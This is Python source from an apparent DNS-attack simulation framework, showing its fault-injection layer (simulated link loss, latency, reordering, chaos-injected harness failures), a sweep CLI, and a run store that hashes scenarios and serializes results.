                    OBS.counter("campaign.retries_total").inc()
                if policy.backoff:
                    time.sleep(policy.backoff * attempt)
                continue
            if policy.record_failures:
                return failed_run(scenario, seed, exc)
            raise
        except Exception as exc:
            if policy.record_failures:
                return failed_run(scenario, seed, exc)
            raise
