"""repro.faults — deterministic fault injection and graceful degradation.

Two planes, one subsystem:

* **Simulation plane** — :class:`ImpairmentSpec` / :class:`FaultPlan`
  describe degraded links (loss, added latency + jitter, reordering,
  duplication) as frozen picklable data; ``AttackScenario(faults=...)``
  compiles them onto the network with a seed-derived RNG stream, so an
  impairment never shifts the attack's own draws and a no-op plan
  reproduces the clean run bit for bit.
* **Execution plane** — :class:`RunPolicy` gives each campaign cell a
  scheduler watchdog, bounded retry for transient failures, and
  record-don't-crash semantics; :mod:`repro.faults.chaos` injects
  deterministic harness failures (poisoned cells, locked stores,
  dying serve workers) to prove it all works.

Quickstart::

    from repro.faults import FaultPlan, RunPolicy
    from repro.scenario import AttackScenario, Campaign
    from repro.testbed import RESOLVER_IP, TARGET_NS_IP

    lossy = FaultPlan.link(RESOLVER_IP, TARGET_NS_IP,
                           loss=0.02, extra_latency=0.04)
    scenario = AttackScenario("saddns", faults=lossy)
    result = Campaign(policy=RunPolicy(retries=2)).run(scenario)
"""

from repro.faults.chaos import (
    ChaosError,
    ChaosStore,
    FlakyError,
    maybe_crash,
    parse_chaos_schedule,
    reset_flaky_attempts,
    should_fail,
)
from repro.faults.inject import FAULT_STREAM, FaultInjector, install_plan
from repro.faults.policy import (
    DEFAULT_POLICY,
    RunPolicy,
    error_summary,
    execute_cell,
    failed_run,
)
from repro.faults.spec import (
    FaultError,
    FaultPlan,
    ImpairmentSpec,
    parse_impairment,
)

__all__ = [
    "ChaosError",
    "ChaosStore",
    "DEFAULT_POLICY",
    "FAULT_STREAM",
    "FaultError",
    "FaultInjector",
    "FaultPlan",
    "FlakyError",
    "ImpairmentSpec",
    "RunPolicy",
    "error_summary",
    "execute_cell",
    "failed_run",
    "install_plan",
    "maybe_crash",
    "parse_chaos_schedule",
    "parse_impairment",
    "reset_flaky_attempts",
    "should_fail",
]
