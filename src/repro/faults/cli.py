"""``python -m repro.faults`` — degraded-network sweeps from the shell.

Runs a budget-capped campaign with declarative impairments and chaos
injection, printing the campaign summary.  Recorded cell failures do
NOT fail the process — graceful degradation is the whole point — so a
sweep with a poisoned seed still exits 0 with the failure visible in
the output (and durable in ``--store``, where a later run re-executes
it).  Exit status 1 is reserved for the harness itself misbehaving
(bad flags, a raising sweep without a policy).

Examples::

    python -m repro.faults --method saddns --seeds 4 \\
        --impair "dst=123.0.0.53,loss=0.02,latency=0.04"

    python -m repro.faults --method hijack --seeds 6 --crash-seed 2 \\
        --store runs.db        # exits 0; seed 2 recorded as failed
"""

from __future__ import annotations

import argparse
import sys

from repro.faults.policy import RunPolicy
from repro.faults.spec import FaultError, FaultPlan, parse_impairment


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.faults",
        description="campaign sweeps over a deterministically degraded "
                    "fabric, with graceful cell failure")
    parser.add_argument("--method", action="append", dest="methods",
                        metavar="NAME", default=None,
                        help="attack method to sweep (repeatable; "
                             "default: hijack)")
    parser.add_argument("--seeds", type=int, default=4,
                        help="number of seeds per scenario (default 4)")
    parser.add_argument("--impair", action="append", default=[],
                        metavar="SPEC",
                        help="one impairment as key=value pairs, e.g. "
                             "'src=30.0.0.1,dst=123.0.0.53,loss=0.02,"
                             "latency=0.04' (repeatable)")
    parser.add_argument("--crash-seed", action="append", type=int,
                        default=[], metavar="SEED",
                        help="poison this seed: its world build raises "
                             "and the cell is recorded as failed "
                             "(repeatable)")
    parser.add_argument("--flaky-seed", action="append", type=int,
                        default=[], metavar="SEED",
                        help="seed that fails transiently once, then "
                             "heals under the retry policy (repeatable)")
    parser.add_argument("--executor", default="serial",
                        choices=("serial", "thread", "process"))
    parser.add_argument("--workers", type=int, default=None)
    parser.add_argument("--store", default=None,
                        help="append results to this SQLite run store")
    parser.add_argument("--max-events", type=int, default=50_000_000,
                        help="per-cell scheduler event budget")
    parser.add_argument("--retries", type=int, default=2,
                        help="retry budget for transient failures")
    parser.add_argument("--fail-fast", action="store_true",
                        help="disable graceful degradation: any "
                             "failing cell kills the sweep")
    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    # Imported after parsing so `--help` stays instant.
    from repro.scenario.campaign import Campaign
    from repro.scenario.presets import budget_capped_overrides
    from repro.scenario.spec import AttackScenario

    try:
        impairments = tuple(parse_impairment(text)
                            for text in args.impair)
    except (FaultError, ValueError) as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 1
    plan = FaultPlan(impairments=impairments,
                     crash_seeds=tuple(args.crash_seed),
                     flaky_seeds=tuple(args.flaky_seed))
    if plan:
        print(f"fault plan: {plan.describe()}")
    methods = args.methods or ["hijack"]
    scenarios = [
        AttackScenario(method=method, label=method, faults=plan or None,
                       **budget_capped_overrides(method))
        for method in methods
    ]
    policy = None if args.fail_fast else RunPolicy(
        max_events=args.max_events, retries=args.retries)
    campaign = Campaign(executor=args.executor, workers=args.workers,
                        policy=policy)
    result = campaign.run(scenarios, seeds=range(args.seeds),
                          store=args.store)
    print(result.describe())
    if result.failures:
        print(f"{result.failures} cells degraded gracefully "
              "(recorded, sweep completed)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
