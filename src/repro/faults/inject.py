"""Compile a :class:`FaultPlan` onto a live :class:`Network`.

The :class:`FaultInjector` sits on the network's transmit path (see
:meth:`repro.netsim.network.Network.set_fault_injector`) and turns each
packet's base latency into a tuple of delivery delays — empty for a
drop, one element for plain (possibly delayed/jittered/reordered)
delivery, more for duplicates.  All randomness comes from one
seed-derived stream, so the attack's own draws are untouched and the
same (seed, plan) always degrades the same packets.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from repro.core.rng import DeterministicRNG
from repro.faults.spec import FaultPlan, ImpairmentSpec

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.netsim.packet import Ipv4Packet

# RNG stream label; deriving it from the testbed seed keeps fault draws
# independent of every attack/workload stream.
FAULT_STREAM = "faults"


class FaultInjector:
    """Applies a plan's impairments to packets crossing matching links."""

    __slots__ = ("plan", "rng", "_specs", "_match_cache")

    def __init__(self, plan: FaultPlan, rng: DeterministicRNG):
        self.plan = plan
        self.rng = rng
        self._specs = plan.active_impairments
        # (src, dst) -> tuple of matching specs.  Address pairs in a
        # simulated world are few; caching skips fnmatch per packet.
        self._match_cache: dict[tuple[str, str],
                                tuple[ImpairmentSpec, ...]] = {}

    def specs_for(self, src: str, dst: str) -> tuple[ImpairmentSpec, ...]:
        key = (src, dst)
        specs = self._match_cache.get(key)
        if specs is None:
            specs = tuple(s for s in self._specs if s.matches(src, dst))
            self._match_cache[key] = specs
        return specs

    def delays(self, packet: "Ipv4Packet", base_latency: float,
               origin: str | None = None) -> tuple[float, ...]:
        """Delivery delays for ``packet``: ``()`` drops it, one element
        delivers once, more elements deliver duplicates.

        ``origin`` is the sending host's real address when the network
        knows it.  Impairments model physical links, so the src pattern
        matches the packet's actual origin, never a spoofed header — an
        off-path attacker forging the nameserver's address does not get
        to ride (or suffer) the nameserver's degraded link.
        """
        specs = self.specs_for(origin if origin is not None
                               else packet.src, packet.dst)
        if not specs:
            return (base_latency,)
        rng = self.rng
        delay = base_latency
        copies = 1
        for spec in specs:
            # Fixed draw order per matching spec keeps the stream
            # identical across runs: loss, latency/jitter, reorder, dup.
            if spec.loss and rng.random() < spec.loss:
                return ()
            delay += spec.extra_latency
            if spec.jitter:
                delay += rng.random() * spec.jitter
            if spec.reorder and rng.random() < spec.reorder:
                delay += spec.reorder_extra
            if spec.duplicate and rng.random() < spec.duplicate:
                copies += 1
        if copies == 1:
            return (delay,)
        return (delay,) * copies


def install_plan(plan: FaultPlan | None, world: dict) -> FaultInjector | None:
    """Wire ``plan`` into a built scenario world (no-op plans install
    nothing, so clean runs stay bit-identical)."""
    if plan is None or not plan.active_impairments:
        return None
    testbed = world["testbed"]
    injector = FaultInjector(plan, testbed.rng.derive(FAULT_STREAM))
    testbed.network.set_fault_injector(injector)
    return injector
