"""Declarative network impairments: loss, latency, jitter, reorder, dup.

An :class:`ImpairmentSpec` describes what one degraded link does to the
packets crossing it — drop with probability ``loss``, add
``extra_latency`` (+ uniform ``jitter``), push a fraction ``reorder``
of packets behind their successors, duplicate a fraction ``duplicate``
— scoped to (src, dst) address patterns (``fnmatch`` style, ``"*"``
matches everything).  A :class:`FaultPlan` bundles impairments plus the
chaos schedule (see :mod:`repro.faults.chaos`) into one frozen,
picklable value an :class:`repro.scenario.spec.AttackScenario` carries
declaratively (``faults=...``) and the run store hashes into the
scenario's identity.

Determinism contract: the plan compiles onto the network with a
seed-derived RNG stream (``testbed.rng.derive("faults")``), so adding
an impairment never shifts the attack's own draws — and a plan with no
active impairment installs *nothing* (zero extra draws, zero extra
events), reproducing the clean run bit for bit.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass
from fnmatch import fnmatchcase
from typing import Any

from repro.core.errors import ConfigurationError


class FaultError(ConfigurationError):
    """A fault plan or impairment spec is malformed."""


def _check_probability(name: str, value: float) -> None:
    if not 0.0 <= value <= 1.0:
        raise FaultError(f"{name} must be a probability in [0, 1], "
                         f"got {value!r}")


def _check_nonnegative(name: str, value: float) -> None:
    if value < 0.0:
        raise FaultError(f"{name} must be >= 0, got {value!r}")


@dataclass(frozen=True, slots=True)
class ImpairmentSpec:
    """One degraded link, as data.

    ``src``/``dst`` are address patterns (exact address, or a glob like
    ``"30.0.0.*"``); a packet is impaired when both match.  ``src`` is
    matched against the sending host's *real* address: impairments
    model physical links, so an off-path attacker spoofing the
    nameserver's address never rides (or suffers) the nameserver's
    degraded link.  All knobs default to "off", so
    ``ImpairmentSpec(dst="123.0.0.53", loss=0.02)`` reads as the single
    fault it injects.
    """

    src: str = "*"
    dst: str = "*"
    loss: float = 0.0            # drop probability per packet
    extra_latency: float = 0.0   # seconds added to every delivery
    jitter: float = 0.0          # + uniform [0, jitter) seconds
    reorder: float = 0.0         # probability of pushing a packet late
    reorder_extra: float = 0.05  # how far behind a reordered packet lands
    duplicate: float = 0.0       # probability of delivering twice

    def __post_init__(self) -> None:
        for name in ("loss", "reorder", "duplicate"):
            _check_probability(name, getattr(self, name))
        for name in ("extra_latency", "jitter", "reorder_extra"):
            _check_nonnegative(name, getattr(self, name))
        if not self.src or not self.dst:
            raise FaultError("src/dst patterns must be non-empty")

    @property
    def active(self) -> bool:
        """Whether this spec impairs anything at all."""
        return bool(self.loss or self.extra_latency or self.jitter
                    or self.reorder or self.duplicate)

    def matches(self, src: str, dst: str) -> bool:
        """Whether a (src, dst) packet crosses this impaired link."""
        return fnmatchcase(src, self.src) and fnmatchcase(dst, self.dst)

    def describe(self) -> str:
        knobs = []
        if self.loss:
            knobs.append(f"loss={self.loss:g}")
        if self.extra_latency:
            knobs.append(f"+{self.extra_latency * 1000:g}ms")
        if self.jitter:
            knobs.append(f"jitter={self.jitter * 1000:g}ms")
        if self.reorder:
            knobs.append(f"reorder={self.reorder:g}")
        if self.duplicate:
            knobs.append(f"dup={self.duplicate:g}")
        link = f"{self.src}->{self.dst}"
        return f"{link} [{', '.join(knobs) if knobs else 'clean'}]"

    # Frozen+slots dataclasses only pickle out of the box from Python
    # 3.11; fault plans ship to campaign workers on 3.10 too.
    def __getstate__(self):
        return tuple(getattr(self, f.name)
                     for f in dataclasses.fields(self))

    def __setstate__(self, state):
        for f, value in zip(dataclasses.fields(self), state):
            object.__setattr__(self, f.name, value)


@dataclass(frozen=True, slots=True)
class FaultPlan:
    """Everything a scenario injects: impairments + chaos schedule.

    * ``impairments`` degrade the simulated fabric (compiled onto the
      network by :mod:`repro.faults.inject`);
    * ``crash_seeds`` name campaign seeds whose world build raises
      :class:`repro.faults.chaos.ChaosError` — the deterministic
      "poisoned cell" the execution plane must survive;
    * ``flaky_seeds`` raise a *transient* error on the first
      ``flaky_failures`` attempts per process, so a retrying run policy
      heals them (see :class:`repro.faults.RunPolicy`).

    The empty plan is falsy and injects nothing — scenarios carrying it
    reproduce their clean runs bit for bit.
    """

    impairments: tuple[ImpairmentSpec, ...] = ()
    crash_seeds: tuple[Any, ...] = ()
    flaky_seeds: tuple[Any, ...] = ()
    flaky_failures: int = 1
    label: str = ""

    def __post_init__(self) -> None:
        if not isinstance(self.impairments, tuple):
            object.__setattr__(self, "impairments",
                               tuple(self.impairments))
        for spec in self.impairments:
            if not isinstance(spec, ImpairmentSpec):
                raise FaultError(
                    f"impairments must be ImpairmentSpec, got "
                    f"{type(spec).__name__}")
        if not isinstance(self.crash_seeds, tuple):
            object.__setattr__(self, "crash_seeds",
                               tuple(self.crash_seeds))
        if not isinstance(self.flaky_seeds, tuple):
            object.__setattr__(self, "flaky_seeds",
                               tuple(self.flaky_seeds))
        if self.flaky_failures < 1:
            raise FaultError(
                f"flaky_failures must be >= 1, got {self.flaky_failures}")

    @classmethod
    def of(cls, *impairments: ImpairmentSpec, label: str = ""
           ) -> "FaultPlan":
        """A plan from impairment specs (the common construction)."""
        return cls(impairments=tuple(impairments), label=label)

    @classmethod
    def link(cls, src: str, dst: str, symmetric: bool = True,
             label: str = "", **knobs: float) -> "FaultPlan":
        """Impair one link (both directions unless ``symmetric=False``).

        >>> FaultPlan.link("30.0.0.1", "123.0.0.53", loss=0.02,
        ...                extra_latency=0.04)
        """
        specs = [ImpairmentSpec(src=src, dst=dst, **knobs)]
        if symmetric and (src, dst) != (dst, src):
            specs.append(ImpairmentSpec(src=dst, dst=src, **knobs))
        return cls(impairments=tuple(specs), label=label)

    @property
    def active_impairments(self) -> tuple[ImpairmentSpec, ...]:
        """The impairments that actually do something."""
        return tuple(spec for spec in self.impairments if spec.active)

    def __bool__(self) -> bool:
        return bool(self.active_impairments or self.crash_seeds
                    or self.flaky_seeds)

    def describe(self) -> str:
        if not self:
            return "no-op fault plan"
        parts = [spec.describe() for spec in self.active_impairments]
        if self.crash_seeds:
            parts.append(f"crash@seeds={list(self.crash_seeds)}")
        if self.flaky_seeds:
            parts.append(
                f"flaky@seeds={list(self.flaky_seeds)}"
                f" (x{self.flaky_failures})")
        head = f"{self.label}: " if self.label else ""
        return head + "; ".join(parts)

    def __getstate__(self):
        return tuple(getattr(self, f.name)
                     for f in dataclasses.fields(self))

    def __setstate__(self, state):
        for f, value in zip(dataclasses.fields(self), state):
            object.__setattr__(self, f.name, value)


def parse_impairment(text: str) -> ImpairmentSpec:
    """Parse one CLI impairment: ``"src=A,dst=B,loss=0.02,latency=0.04"``.

    Keys: ``src``, ``dst`` (patterns), ``loss``, ``latency`` (an alias
    for ``extra_latency``), ``jitter``, ``reorder``, ``reorder_extra``,
    ``duplicate``.  Times are in seconds.
    """
    aliases = {"latency": "extra_latency", "dup": "duplicate"}
    fields = {f.name for f in dataclasses.fields(ImpairmentSpec)}
    kwargs: dict[str, Any] = {}
    for part in text.split(","):
        part = part.strip()
        if not part:
            continue
        if "=" not in part:
            raise FaultError(
                f"bad impairment token {part!r}: want key=value")
        key, value = part.split("=", 1)
        key = aliases.get(key.strip(), key.strip())
        if key not in fields:
            raise FaultError(
                f"unknown impairment key {key!r}; known: "
                f"{', '.join(sorted(fields | set(aliases)))}")
        kwargs[key] = value.strip() if key in ("src", "dst") \
            else float(value)
    return ImpairmentSpec(**kwargs)
