"""Deterministic chaos: injected failures for the execution plane.

Impairments (:mod:`repro.faults.spec`) degrade the *simulated* network;
chaos degrades the *harness itself* — a campaign cell whose world build
crashes, a store whose writes raise ``sqlite3.OperationalError`` on
schedule, a serve worker that dies mid-job.  Everything here is
deterministic (schedules are data, not clocks), so resilience tests and
the CI chaos-smoke job reproduce exactly.

Three mechanisms:

* ``FaultPlan.crash_seeds`` / ``flaky_seeds`` — checked by
  :func:`maybe_crash` at world-build time.  Crash seeds raise
  :class:`ChaosError` (terminal: the cell is recorded as failed and
  fails again on resume until the plan changes).  Flaky seeds raise
  :class:`FlakyError` (a :class:`~repro.core.errors.TransientError`)
  for the first ``flaky_failures`` attempts in each process, so a
  retrying :class:`~repro.faults.policy.RunPolicy` heals them.
* :class:`ChaosStore` — wraps a :class:`~repro.store.db.RunStore`,
  raising ``sqlite3.OperationalError("database is locked")`` for
  scheduled write attempts; exercises the store retry path without
  needing real lock contention.
* Serve worker chaos — ``JobService(chaos="job:N")`` (see
  :mod:`repro.serve.jobs`) uses :func:`parse_chaos_schedule` +
  :func:`should_fail` to crash the Nth job deterministically.
"""

from __future__ import annotations

import sqlite3
from typing import Any

from repro.core.errors import ReproError, TransientError


class ChaosError(ReproError):
    """An injected, *terminal* harness failure (a "poisoned cell")."""


class FlakyError(TransientError):
    """An injected, *transient* harness failure; retries succeed."""


# Per-process attempt counts for flaky seeds, keyed (scenario label,
# seed).  Process-local on purpose: each executor worker sees its own
# counter, so "fails flaky_failures times then succeeds" holds whether
# the retry happens in-process (serial/thread) or in a re-dispatched
# worker that already failed it once.
_flaky_attempts: dict[tuple[str, Any], int] = {}


def reset_flaky_attempts() -> None:
    """Forget flaky-seed attempt history (test isolation)."""
    _flaky_attempts.clear()


def maybe_crash(plan, label: str, seed) -> None:
    """Apply ``plan``'s chaos schedule to a (label, seed) cell build.

    Raises :class:`ChaosError` for crash seeds, :class:`FlakyError` for
    flaky seeds that have not yet burned through ``plan.flaky_failures``
    attempts in this process, and returns silently otherwise.
    """
    if plan is None:
        return
    if seed in plan.crash_seeds:
        raise ChaosError(
            f"injected crash: seed {seed!r} of {label!r} is poisoned")
    if seed in plan.flaky_seeds:
        key = (label, seed)
        attempt = _flaky_attempts.get(key, 0) + 1
        _flaky_attempts[key] = attempt
        if attempt <= plan.flaky_failures:
            raise FlakyError(
                f"injected transient failure: seed {seed!r} of {label!r}"
                f" (attempt {attempt}/{plan.flaky_failures})")


def parse_chaos_schedule(text: str | None) -> tuple[str, int] | None:
    """Parse a ``"kind:N"`` chaos schedule (e.g. ``"job:2"``).

    Returns ``(kind, n)`` with 1-based ``n``, or None for no chaos.
    """
    if not text:
        return None
    kind, _, count = text.partition(":")
    kind = kind.strip()
    if not kind or not count.strip().isdigit():
        raise ValueError(
            f"bad chaos schedule {text!r}: want 'kind:N' (e.g. 'job:2')")
    n = int(count)
    if n < 1:
        raise ValueError(f"chaos schedule index must be >= 1, got {n}")
    return kind, n


def should_fail(schedule: tuple[str, int] | None, kind: str,
                ordinal: int) -> bool:
    """Whether the ``ordinal``-th (1-based) event of ``kind`` is doomed."""
    return schedule is not None and schedule == (kind, ordinal)


class ChaosStore:
    """A :class:`~repro.store.db.RunStore` proxy with scheduled failures.

    ``fail_writes`` lists 1-based write-attempt ordinals (counting every
    call to :meth:`record`/:meth:`record_many`) that raise
    ``sqlite3.OperationalError("database is locked")`` before touching
    the real store.  With ``transient=True`` (default) a retried attempt
    gets a fresh ordinal and eventually lands — exactly the shape of
    real WAL-lock contention the store retry loop must absorb.
    """

    def __init__(self, store, fail_writes: tuple[int, ...] = (2,)):
        self._store = store
        self._fail_writes = frozenset(fail_writes)
        self.write_attempts = 0
        self.injected_failures = 0

    def _maybe_fail(self) -> None:
        self.write_attempts += 1
        if self.write_attempts in self._fail_writes:
            self.injected_failures += 1
            raise sqlite3.OperationalError(
                "database is locked (injected by ChaosStore)")

    def record(self, *args, **kwargs):
        self._maybe_fail()
        return self._store.record(*args, **kwargs)

    def record_many(self, *args, **kwargs):
        self._maybe_fail()
        return self._store.record_many(*args, **kwargs)

    def __getattr__(self, name):
        return getattr(self._store, name)
