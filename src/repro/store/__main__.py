"""Entry point: ``python -m repro.store`` dispatches to the CLI."""

from repro.store.cli import main

raise SystemExit(main())
