"""Canonical run identity and serialization for the run store.

A stored run is keyed by ``(spec_hash, seed, defense)``:

* ``spec_hash`` — a stable digest of *everything* that determines the
  scenario's statistical outcome: the method, qname, trigger, attack
  config, testbed overrides, defense stack, app stage and workload
  spec.  Two scenarios with the same hash produce bit-identical
  :class:`repro.scenario.spec.ScenarioRun` objects for the same seed,
  so a cached record can stand in for a re-execution.
* ``seed`` — JSON-encoded, so the int ``0`` and the string ``"0"``
  (both legal campaign seeds) name different cells.
* ``defense`` — the deployed stack's canonical key, kept out of the
  opaque hash so store queries can pivot on it (``spec_hash`` covers
  the stack too; the explicit column is the queryable projection).

The scenario digest is computed over a canonical JSON rendering of the
scenario's dataclass tree — no ``repr`` addresses, no pickle opcodes —
so it is stable across processes, machines and Python versions.
Scenarios holding live callables (``TriggerSpec(kind="callable")``)
have no canonical rendering and are rejected: the declarative trigger
kinds cover every storable path.

:func:`run_to_json` / :func:`run_from_json` round-trip a
:class:`ScenarioRun` through plain JSON *exactly* for every field that
campaign aggregation and the perf checksums consume (floats round-trip
via ``repr``), so aggregates reconstructed from the store are
bit-identical to the live run's.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
from dataclasses import dataclass
from typing import Any

from repro.apps.base import AppOutcome
from repro.apps.driver import AppStageResult
from repro.attacks.base import AttackResult
from repro.core.errors import ScenarioError
from repro.scenario.spec import AttackScenario, ScenarioRun
from repro.workload.population import WorkloadSpec
from repro.workload.report import LoadReport

#: Bump when the canonical rendering (or the simulation semantics any
#: hash covers) changes incompatibly: old records then miss on hash and
#: are recomputed instead of being silently merged across formats.
#: Format 2: scenarios hash their fault plan, runs carry a
#: status/error column pair (recorded failures, repro.faults).
STORE_FORMAT_VERSION = 2


# -- canonical rendering -------------------------------------------------------


def canonical_value(value: Any) -> Any:
    """A JSON-safe, deterministic rendering of a scenario field.

    Dataclasses render as ``{"__kind__": <class>, <field>: ...}`` so
    two config classes with identical field values still hash apart;
    anything without a canonical rendering (live callables, arbitrary
    objects) raises — a run key must never depend on a memory address.
    """
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        payload: dict[str, Any] = {"__kind__": type(value).__name__}
        for spec_field in dataclasses.fields(value):
            payload[spec_field.name] = canonical_value(
                getattr(value, spec_field.name))
        return payload
    if isinstance(value, (list, tuple)):
        return [canonical_value(item) for item in value]
    if isinstance(value, dict):
        return {str(key): canonical_value(item)
                for key, item in value.items()}
    if isinstance(value, bytes):
        return {"__bytes__": value.hex()}
    if value is None or isinstance(value, (str, int, float, bool)):
        return value
    raise ScenarioError(
        f"no canonical rendering for {type(value).__name__!r} "
        f"({value!r}); scenarios with live callables cannot be stored — "
        "use a declarative TriggerSpec kind")


def _digest(payload: dict) -> str:
    canonical = json.dumps(payload, sort_keys=True,
                           separators=(",", ":"))
    return hashlib.sha256(canonical.encode("utf-8")).hexdigest()[:16]


def scenario_spec_hash(scenario: AttackScenario) -> str:
    """Stable identity of one scenario's statistical behaviour."""
    return _digest({
        "store_format": STORE_FORMAT_VERSION,
        "scenario": canonical_value(scenario),
    })


def workload_spec_hash(spec: WorkloadSpec | None) -> str:
    """Stable identity of the attached workload (``""`` when idle).

    Replay specs (``trace_path``) hash the *path*, not the trace bytes;
    a store shared across hosts should ship the trace alongside it.
    """
    if spec is None:
        return ""
    return _digest({
        "store_format": STORE_FORMAT_VERSION,
        "workload": canonical_value(spec),
    })


def seed_key(seed: Any) -> str:
    """JSON-encode a campaign seed so ``0`` and ``"0"`` stay distinct."""
    try:
        return json.dumps(seed, sort_keys=True, separators=(",", ":"))
    except TypeError as exc:
        raise ScenarioError(f"unstorable seed {seed!r}: {exc}") from exc


def run_key(scenario: AttackScenario, seed: Any,
            spec_hash: str | None = None) -> tuple[str, str, str]:
    """The store's ``(spec_hash, seed, defense)`` cell key."""
    if spec_hash is None:
        spec_hash = scenario_spec_hash(scenario)
    return (spec_hash, seed_key(seed), scenario.defense_key)


# -- run serialization ---------------------------------------------------------


def _jsonable(detail: dict) -> dict:
    """A JSON-round-trippable copy of a free-form detail dict.

    Detail dicts never feed aggregates or checksums, so lossy
    stringification of exotic values is acceptable here (and only
    here).
    """
    return json.loads(json.dumps(detail, default=str))


def run_to_json(run: ScenarioRun) -> dict:
    """The full-stats JSON payload of one executed run."""
    result = run.result
    payload: dict[str, Any] = {
        "label": run.label,
        "method": run.method,
        "seed": run.seed,
        "defense": run.defense,
        "wall_time": run.wall_time,
        "error": run.error,
        "result": {
            "method": result.method,
            "success": result.success,
            "iterations": result.iterations,
            "packets_sent": result.packets_sent,
            "queries_triggered": result.queries_triggered,
            "duration": result.duration,
            "detail": _jsonable(result.detail),
        },
    }
    if run.app_result is not None:
        stage = run.app_result
        payload["app"] = {
            "app": stage.app,
            "impact": stage.impact,
            "impact_class": stage.impact_class,
            "realized": stage.realized,
            "outcomes": [
                {
                    "app": outcome.app,
                    "action": outcome.action,
                    "ok": outcome.ok,
                    "security_degraded": outcome.security_degraded,
                    "used_address": outcome.used_address,
                    "detail": _jsonable(outcome.detail),
                }
                for outcome in stage.outcomes
            ],
        }
    if run.load_report is not None:
        payload["load"] = run.load_report.to_json()
    return payload


def run_from_json(payload: dict) -> ScenarioRun:
    """Rebuild the genuine :class:`ScenarioRun` a payload captured.

    The reconstruction returns real :class:`AttackResult` /
    :class:`AppStageResult` / :class:`LoadReport` objects, so every
    aggregation path (``MethodSummary``, ``CampaignResult``, the bench
    checksums) treats a stored run exactly like a fresh one.
    """
    result_payload = payload["result"]
    result = AttackResult(
        method=result_payload["method"],
        success=bool(result_payload["success"]),
        iterations=int(result_payload["iterations"]),
        packets_sent=int(result_payload["packets_sent"]),
        queries_triggered=int(result_payload["queries_triggered"]),
        duration=float(result_payload["duration"]),
        detail=dict(result_payload.get("detail", {})),
    )
    app_result = None
    app_payload = payload.get("app")
    if app_payload is not None:
        app_result = AppStageResult(
            app=app_payload["app"],
            impact=app_payload["impact"],
            impact_class=app_payload["impact_class"],
            realized=bool(app_payload["realized"]),
            outcomes=tuple(
                AppOutcome(
                    app=outcome["app"],
                    action=outcome["action"],
                    ok=bool(outcome["ok"]),
                    security_degraded=bool(outcome["security_degraded"]),
                    used_address=outcome["used_address"],
                    detail=dict(outcome.get("detail", {})),
                )
                for outcome in app_payload.get("outcomes", [])
            ),
        )
    load_report = None
    if payload.get("load") is not None:
        load_report = LoadReport.from_json(payload["load"])
    return ScenarioRun(
        label=payload["label"],
        method=payload["method"],
        seed=payload["seed"],
        result=result,
        wall_time=float(payload.get("wall_time", 0.0)),
        app_result=app_result,
        defense=payload.get("defense", "none"),
        load_report=load_report,
        error=payload.get("error", ""),
    )


# -- the persisted record ------------------------------------------------------


@dataclass
class RunRecord:
    """One campaign cell as persisted: queryable columns + full stats.

    The flat columns (method, defense, success, packets, ...) are the
    queryable projection the store indexes; ``stats`` is the complete
    :func:`run_to_json` payload the cell reconstructs from.
    """

    spec_hash: str
    seed: str                    # JSON-encoded (see :func:`seed_key`)
    defense: str
    method: str
    label: str
    workload_hash: str
    app: str | None
    success: bool
    packets_sent: int
    queries_triggered: int
    duration: float
    impact_realized: bool | None
    load_checksum: str | None
    wall_time: float
    stats: dict
    created: float = 0.0
    # "ok" for executed cells, "failed" for failures a RunPolicy
    # recorded in place of a result; ``error`` then carries the
    # one-line failure.  Failed records are the one exception to
    # first-wins: a later ok record for the same key heals them.
    status: str = "ok"
    error: str = ""

    @property
    def key(self) -> tuple[str, str, str]:
        return (self.spec_hash, self.seed, self.defense)

    @property
    def failed(self) -> bool:
        return self.status == "failed"

    @classmethod
    def from_run(cls, run: ScenarioRun, spec_hash: str,
                 workload_hash: str = "",
                 created: float = 0.0) -> "RunRecord":
        return cls(
            spec_hash=spec_hash,
            seed=seed_key(run.seed),
            defense=run.defense,
            method=run.method,
            label=run.label,
            workload_hash=workload_hash,
            app=run.app_result.app if run.app_result is not None else None,
            success=run.success,
            packets_sent=run.packets_sent,
            queries_triggered=run.queries_triggered,
            duration=run.duration,
            impact_realized=run.app_result.realized
            if run.app_result is not None else None,
            load_checksum=run.load_report.checksum()
            if run.load_report is not None else None,
            wall_time=run.wall_time,
            stats=run_to_json(run),
            created=created,
            status=run.status,
            error=run.error,
        )

    def to_run(self) -> ScenarioRun:
        return run_from_json(self.stats)

    def to_json(self) -> dict:
        """The export rendering (``python -m repro.store export``)."""
        return {
            "spec_hash": self.spec_hash,
            "seed": self.seed,
            "defense": self.defense,
            "method": self.method,
            "label": self.label,
            "workload_hash": self.workload_hash,
            "app": self.app,
            "success": self.success,
            "packets_sent": self.packets_sent,
            "queries_triggered": self.queries_triggered,
            "duration": self.duration,
            "impact_realized": self.impact_realized,
            "load_checksum": self.load_checksum,
            "wall_time": self.wall_time,
            "created": self.created,
            "status": self.status,
            "error": self.error,
            "stats": self.stats,
        }
