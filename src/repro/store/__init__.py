"""Durable, queryable run store for campaign sweeps.

The subsystem has three layers:

* :mod:`repro.store.schema` — canonical run identity.  Every campaign
  cell is keyed ``(spec_hash, seed, defense)``, where the spec hash
  digests the full scenario dataclass tree (method, trigger, configs,
  defense stack, app stage, workload), and the stored stats JSON
  round-trips the :class:`ScenarioRun` exactly.
* :mod:`repro.store.db` — :class:`RunStore`, the append-only SQLite
  file (WAL mode, concurrent writers, first-wins ``INSERT OR
  IGNORE``).  ``Campaign.run(..., store=...)`` records every cell and
  skips cells already present, so a killed sweep resumes idempotently
  and recomputes only what is missing.
* :mod:`repro.store.aggregate` — reconstruction without re-running:
  :func:`campaign_from_store` rebuilds a bit-identical
  :class:`CampaignResult` from stored cells, and :class:`RunTotals`
  gives mergeable counters for the service/CLI aggregation endpoints.

``python -m repro.store`` (see :mod:`repro.store.cli`) inspects,
queries, exports and vacuums a store file; ``python -m repro.serve``
runs the HTTP job service that drains sweeps into one.
"""

from repro.store.aggregate import (RunTotals, campaign_from_store,
                                   merge_totals, summaries_from_store,
                                   totals_from_store)
from repro.store.db import RunStore, StoreError
